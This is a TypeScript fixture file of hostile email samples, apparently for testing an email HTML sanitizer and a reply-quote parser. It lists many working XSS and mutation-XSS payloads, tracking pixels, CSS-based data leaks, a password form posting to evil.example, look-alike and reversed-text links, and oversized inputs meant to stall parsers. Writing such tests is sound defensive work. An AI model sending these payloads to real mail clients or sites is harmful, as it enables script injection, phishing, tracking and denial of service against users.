/** HTML of malicious mails. Whatever runs sets `__ran`; whatever loads or links somewhere names `evil.example`. */
export const HOSTILE_MAILS: readonly { name: string; html: string }[] = Object.entries({
  // What runs.
  'a script': '<p>Hello</p><script>top.__ran = 1</script>',
  'a script from elsewhere': '<script src="https://evil.example/1.js"></script><p>Hello</p>',
  'a script in capitals, with a slash': '<ScRiPt/x>top.__ran = 1</sCrIpT ><p>Hello</p>',
  'a script that begins inside itself': '<scr<script>ipt>top.__ran = 1</scr</script>ipt><p>Hello</p>',
  'a script that never ends': '<p>Hello</p><script>top.__ran = 1',
  'a script of another type':
    '<script type="text/vbscript">MsgBox 1</script><script type="module">top.__ran = 1</script><p>Hello</p>',
  'a picture that fails': '<p>Hello</p><img src=x onerror="top.__ran = 1">',
  'a picture without quotes': '<p>Hello</p><img src=x:x onerror=top.__ran=1//',
  'handlers of many elements':
    '<body onload="top.__ran=1"><p onclick="top.__ran=1" onmouseover=top.__ran=1 OnFocus="top.__ran=1" tabindex=0 autofocus>Hello</p>',
  'a handler after a slash': '<p/onclick=top.__ran=1>Hello</p><img/src/onerror=top.__ran=1>',
  'a handler with control characters': '<p on\u0001click="top.__ran=1" \u000bonclick="top.__ran=1">Hello</p>',
  'a handler in entities': '<p &#111;nclick="top.__ran=1" on&#99;lick="top.__ran=1">Hello</p>',
  'an animation that ends':
    '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="top.__ran=1">Hello</p>',
  'details that open': '<details open ontoggle="top.__ran=1"><summary>Hello</summary>text</details>',
  'a marquee': '<marquee onstart="top.__ran=1" loop=1>Hello</marquee>',
  'a link to a script': '<a href="javascript:top.__ran=1">Hello</a>',
  'a link to a script, hidden': '<a href=" &#14; jAvA&#10;scr&Tab;ipt&colon;top.__ran=1">Hello</a>',
  'a link to another script': '<a href="vbscript:msgbox(1)">Hello</a><a href="livescript:x">Hello</a>',
  'a link to data': '<a href="data:text/html,<script>top.__ran=1</script>">Hello</a>',
  'a link to a file of this machine':
    '<a href="file:///etc/passwd">Hello</a><a href="blob:https://evil.example/1">x</a>',
  'a link to an app': '<a href="ms-msdt:/id PCWDiagnostic">Hello</a><a href="intent://x#Intent;end">x</a>',
  'a link with a name of ours': '<span data-link="1">Hello</span><a data-link="7" href="x">there</a>',
  'an image map': '<p>Hello</p><map name=m><area shape=default href="javascript:top.__ran=1"></map><img usemap="#m">',
  'a base': '<base href="https://evil.example/" target="_top"><a href="/login">Hello</a><img src="pixel.gif">',
  'a page that moves on': '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Hello</p>',
  'a page that moves on to a script': '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=data:text/html,x"><p>Hello</p>',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src \'unsafe-inline\'"><script>top.__ran=1</script><p>Hello</p>',
  'a cookie': '<meta http-equiv="Set-Cookie" content="session=1"><p>Hello</p>',
  'a form':
    '<form action="https://evil.example/" method=post><p>Hello</p><input name=password type=password><button>Sign in</button></form>',
  'a form of a button':
    '<p>Hello</p><button form=f formaction="javascript:top.__ran=1">Go</button><input type=image src="https://evil.example/1.gif">',
  'a select and a textarea':
    '<select><option>Hello<img src=x onerror=top.__ran=1></select><textarea><script>top.__ran=1</script></textarea><p>Hello</p>',
  'a frame': '<p>Hello</p><iframe src="https://evil.example/"></iframe>',
  'a frame of its own':
    '<p>Hello</p><iframe srcdoc="<script>top.__ran=1</script>" sandbox="allow-scripts allow-same-origin"></iframe>',
  'frames in frames': `<p>Hello</p>${'<iframe><p>'.repeat(30)}<img src=x onerror=top.__ran=1>`,
  'a frameset':
    '<frameset onload="top.__ran=1"><frame src="https://evil.example/"></frameset><noframes><p>Hello</p></noframes>',
  'an object':
    '<p>Hello</p><object data="https://evil.example/1.swf"><embed src="https://evil.example/2.swf"></object>',
  'an embedded page': '<p>Hello</p><embed src="javascript:top.__ran=1"><applet code="X.class"></applet>',
  'a template':
    '<template><script>top.__ran=1</script></template><template shadowrootmode=open><style>*{}</style></template><p>Hello</p>',
  'a portal and a custom element':
    '<portal src="https://evil.example/"></portal><x-y onclick=top.__ran=1 is=z>Hello</x-y>',
  // Drawings, formulas, and markup that parsers disagree about.
  'a drawing that runs': '<p>Hello</p><svg onload="top.__ran=1"><script>top.__ran=1</script></svg>',
  'a drawing that animates a link':
    '<p>Hello</p><svg><a><animate attributeName=href values="javascript:top.__ran=1"/><text>x</text></a></svg>',
  'a drawing that uses another':
    '<p>Hello</p><svg><use href="https://evil.example/1.svg#x"/><image href="https://evil.example/2.png"/></svg>',
  'a drawing with a page inside':
    '<p>Hello</p><svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
  'a formula with a link': '<p>Hello</p><math href="javascript:top.__ran=1"><mtext>x</mtext></math>',
  'a formula that changes when read again':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.__ran=1&gt;"></table></mtext></math>Hello',
  'a form that changes when read again':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.__ran=1></form>Hello',
  'noscript that changes when read again':
    '<noscript><p title="</noscript><img src=x onerror=top.__ran=1>">x</p></noscript>Hello',
  'a drawing’s style that changes when read again':
    '<svg></p><style><a id="</style><img src=1 onerror=top.__ran=1>"></svg>Hello',
  'an attribute that ends its element': '<p title="</p><img src=x onerror=top.__ran=1>">Hello</p>',
  'an attribute with a back quote':
    '<p title="`><img src=x onerror=top.__ran=1>" class="`onclick=top.__ran=1">Hello</p>',
  'comments that end early':
    '<!--><img src=x onerror=top.__ran=1>--><!---!><script>top.__ran=1</script>--><p>Hello</p>',
  'a comment for one browser':
    '<!--[if gte mso 9]><script>top.__ran=1</script><![endif]--><![if !IE]><p>Hello</p><![endif]>',
  'character data': '<![CDATA[<script>top.__ran=1</script>]]><p>Hello</p><?xml version="1.0"?><?php echo 1 ?>',
  'a document type': '<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.example/1">]><p>Hello &x;</p>',
  'text that never ends': '<p>Hello</p><plaintext><script>top.__ran=1</script>',
  'old raw text':
    '<xmp><script>top.__ran=1</script></xmp><listing><img src=x onerror=top.__ran=1></listing><p>Hello</p>',
  'an element cut off': '<p>Hello</p><img src="https://evil.example/1.gif" alt="',
  'a name with a colon': '<o:p>Hello</o:p><x:script xmlns:x="http://www.w3.org/1999/xhtml">top.__ran=1</x:script>',
  'names of every object':
    '<p constructor=1 __proto__=1 toString=1 style="constructor:1;__proto__:1">Hello</p><constructor>x</constructor>',
  // What reveals that it was read.
  'a tracking picture': '<p>Hello</p><img src="https://evil.example/open.gif?id=7" width=1 height=1>',
  'a tracking picture of any size':
    '<p>Hello</p><img srcset="https://evil.example/1.png 1x, //evil.example/2.png 2x" sizes=100vw>',
  'a picture of many sources':
    '<picture><source srcset="https://evil.example/1.webp"><img src="//evil.example/2.png" alt="Hello"></picture>',
  'a picture by other names':
    '<p>Hello</p><img dynsrc="https://evil.example/1" lowsrc="https://evil.example/2" longdesc="https://evil.example/3">',
  'a picture of this server':
    '<p>Hello</p><img src="/v1/users/me"><img src="media/1"><img src="http://127.0.0.1:4600/">',
  'a picture’s address with a script':
    '<p>Hello</p><img src="javascript:top.__ran=1"><img src="cid:javascript:top.__ran=1">',
  'a picture in itself':
    '<p>Hello</p><img src="data:image/svg+xml,<svg onload=top.__ran=1>"><img src="data:text/html,x">',
  backgrounds:
    '<table background="https://evil.example/1.gif"><tr><td background="//evil.example/2.gif">Hello</td></tr></table>',
  'a background of a style': '<p style="background:url(https://evil.example/1.gif)">Hello</p>',
  'a background, quoted and escaped':
    '<p style="background-image:u\\72l(&quot;https://evil.example/1.gif&quot;);color:red">Hello</p>',
  'a background in a comment': '<p style="background:/**/url/**/(https://evil.example/1)/*;*/;color:red">Hello</p>',
  'a style with a function':
    '<p style="width:expression(top.__ran=1);background:image-set(\'https://evil.example/1\' 1x);color:red">Hello</p>',
  'a list’s mark and a cursor':
    '<ul style="list-style-image:url(https://evil.example/1);cursor:url(https://evil.example/2),auto"><li>Hello</ul>',
  'a style’s variable': '<p style="--x:url(https://evil.example/1);background:var(--x);content:attr(x)">Hello</p>',
  'a style with a binding':
    '<p style="-moz-binding:url(https://evil.example/1.xml#x);behavior:url(#default#time2)">Hello</p>',
  'a style that closes itself': '<p style="color:red}*{background:url(https://evil.example/1)}">Hello</p>',
  'a style sheet':
    '<style>@import "https://evil.example/1.css"; p{background:url(https://evil.example/1)}</style><p>Hello</p>',
  'a style sheet that reads letters':
    '<style>@font-face{font-family:x;src:url(https://evil.example/A);unicode-range:U+41}input[value^=a]{background:url(//evil.example/a)}</style><p style="font-family:x">Hello</p>',
  'a style sheet that ends late': '<style><!--</style><script>top.__ran=1</script>--></style><p>Hello</p>',
  'a style sheet from elsewhere': '<link rel=stylesheet href="https://evil.example/1.css"><p>Hello</p>',
  'links that are fetched ahead':
    '<link rel=prefetch href="https://evil.example/1"><link rel=dns-prefetch href="//evil.example"><link rel=preconnect href="//evil.example"><link rel=modulepreload href="https://evil.example/2"><p>Hello</p>',
  'an icon and a manifest':
    '<link rel=icon href="https://evil.example/1.ico"><link rel=manifest href="https://evil.example/2"><p>Hello</p>',
  'a sound and a film':
    '<p>Hello</p><audio src="https://evil.example/1.mp3" autoplay></audio><video poster="https://evil.example/2.png"><track src="https://evil.example/3.vtt"></video>',
  'a link that tells':
    '<a href="https://evil.example/1" ping="https://evil.example/2" target=_top rel=opener download>Hello</a>',
  // What deceives.
  'a link in place of another': '<a href="https://evil.example/">https://bank.example/</a> Hello',
  'a host as a name': '<a href="https://bank.example@evil.example/">Hello</a>',
  'a host of look-alikes': '<a href="https://b\u0430nk.example/">Hello</a>',
  'a link that turns around': '<a href="https://evil.example/\u202egpj.exe">Hello</a>',
  'a page over everything':
    '<div style="position:fixed;inset:0;z-index:2147483647;background:white">Hello</div><div style="position:absolute;top:-9999px">x</div>',
  'a page over everything, by a sheet': '<dialog open style="position:fixed">Hello</dialog><div popover id=x>x</div>',
  'a page that isn’t seen':
    '<p>Hello</p><p style="transform:scale(99);filter:blur(9px);clip-path:circle();pointer-events:all">x</p>',
  // What takes long.
  'a hundred thousand elements deep': `<p>Hello</p>${'<div>'.repeat(99_000)}`,
  'a hundred thousand lists deep': `<p>Hello</p>${'<b><i>'.repeat(60_000)}`,
  'a huge table': `<p>Hello</p><table>${'<tr><td colspan=9999 rowspan=9999>x'.repeat(10_000)}</table>`,
  'a hundred thousand attributes': `<p>Hello</p><p ${'x=1 '.repeat(100_000)}>x</p>`,
  'a hundred thousand styles': `<p>Hello</p><p style="${'color:red;'.repeat(40_000)}">x</p>`,
  'a style of brackets': `<p>Hello</p><p style="color:${'rgb('.repeat(450)}">x</p>`.repeat(200),
  'a hundred thousand open brackets': `<p>Hello</p>${'<'.repeat(400_000)}`,
  'a hundred thousand entities': `<p>Hello</p>${'&#x26;'.repeat(80_000)}`,
  'a hundred thousand links': `<p>Hello</p>${Array.from({ length: 9_000 }, (_, at) => `<a href="https://evil.example/${at}">x</a>`).join('')}`,
  'a long address': `<p>Hello</p><a href="https://evil.example/${'a'.repeat(400_000)}">x</a>`,
  'frames that begin again': `<p>Hello</p>${'<iframe>'.repeat(60_000)}`,
  'noscript that begins again': `<p>Hello</p>${'<noscript></p>'.repeat(15_000)}`,
}).map(([name, html]) => ({ name, html }))

/** Long lines, and lines by the thousand, that seem to begin or end a quote and never do. */
export const HOSTILE_TEXTS: readonly { name: string; text: string }[] = Object.entries({
  'a header of spaces': `From:${' '.repeat(300_000)}\u2028x`,
  'a header of spaces of many kinds': `Von${'\u00a0\u2003\t'.repeat(100_000)}:`,
  'a header of line separators': `From:${'\u2028'.repeat(300_000)}`,
  'a header within spaces': `${' '.repeat(300_000)}From: x`,
  'headers by the thousand': 'From: x <x@evil.example>\n'.repeat(40_000),
  'headers of every kind by the thousand': 'From: x\nSent: 2026\nTo: x\n'.repeat(20_000),
  dashes: '-'.repeat(300_000),
  'dashes and an original message': `${'-'.repeat(150_000)} Original Message ${'-'.repeat(150_000)}x`,
  'a separator and spaces': `-----Original Message-----${' '.repeat(300_000)}x`,
  'a forward and spaces': `Begin forwarded message${' '.repeat(300_000)}x`,
  'forwards by the thousand': 'Begin forwarded message: x\n'.repeat(40_000),
  'rules between empty lines': `${'_'.repeat(32)}\n\n`.repeat(40_000),
  'openings by the thousand': 'On Monday 12\n'.repeat(40_000),
  'openings that end in a colon': 'On Monday 12 wrote:\n'.repeat(40_000),
  'colons and empty lines': `${'x:\n\n'.repeat(20_000)}${'\n'.repeat(200_000)}x:`,
  'colons and spaces': `${': '.repeat(150_000)}`,
  'open brackets': `${'<'.repeat(150_000)}${'@'.repeat(150_000)}>:`,
  'addresses without an end': `${'<a@b '.repeat(60_000)}wrote:`,
  'an address of spaces': `<${' '.repeat(300_000)}@x> wrote:`,
  'quote marks in one line': '>'.repeat(300_000),
  'quote marks by the thousand': '> x\nx\n'.repeat(40_000),
  'signatures by the thousand': '-- \nx\n'.repeat(60_000),
  'signatures without a space by the thousand': '\n--\nx\n'.repeat(60_000),
  'a phone that goes on': `Sent from my ${'phone '.repeat(50_000)}`,
  'nothing but spaces': ' '.repeat(500_000),
  'nothing but empty lines': ' \n'.repeat(250_000),
  'nothing but carriage returns': '\r'.repeat(400_000),
}).map(([name, text]) => ({ name, text }))
